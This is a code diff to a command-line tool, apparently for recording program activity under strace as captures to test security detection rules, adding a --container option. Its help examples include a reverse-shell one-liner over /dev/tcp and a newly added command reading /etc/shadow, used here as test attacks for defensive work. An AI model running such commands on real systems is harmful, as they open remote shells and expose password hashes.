@@ -8,6 +8,7 @@ import { grouped, ProgressBar } from './progress.ts';
 interface Flags {
   readonly output: string;
   readonly keepLog?: string;
+  readonly container?: string;
   readonly snaplen?: number;
   readonly env: boolean;
   readonly quiet?: true;
@@ -21,6 +22,7 @@ Examples:
 
   $ tiercel record -o attack.scap -- bash attack.sh
   $ tiercel record --no-env -o attack.scap.gz -- bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5 2>&5'
+  $ tiercel record -o attack.scap --container nginx:1.27 -- sh -c 'cat /etc/shadow'
   $ tiercel record -o attack.jsonl --keep-log attack.strace -- ./attack --fast
 
 The command runs under strace: no root, no driver, no Falco; it works in a container and in CI. The capture has the current schema, as
@@ -45,6 +47,7 @@ export function recordCommand(): Command {
     .argument('[arguments...]', 'its arguments')
     .passThroughOptions()
     .option('-o, --output <file>', 'file to write: .scap or .jsonl, and .gz', 'recording.scap')
+    .option('--container <image>', 'for rules: as if in a container of this image, wherever it really runs')
     .option(
       '--keep-log <file>',
       'keep the log of strace, of which tiercel convert makes the same capture again',
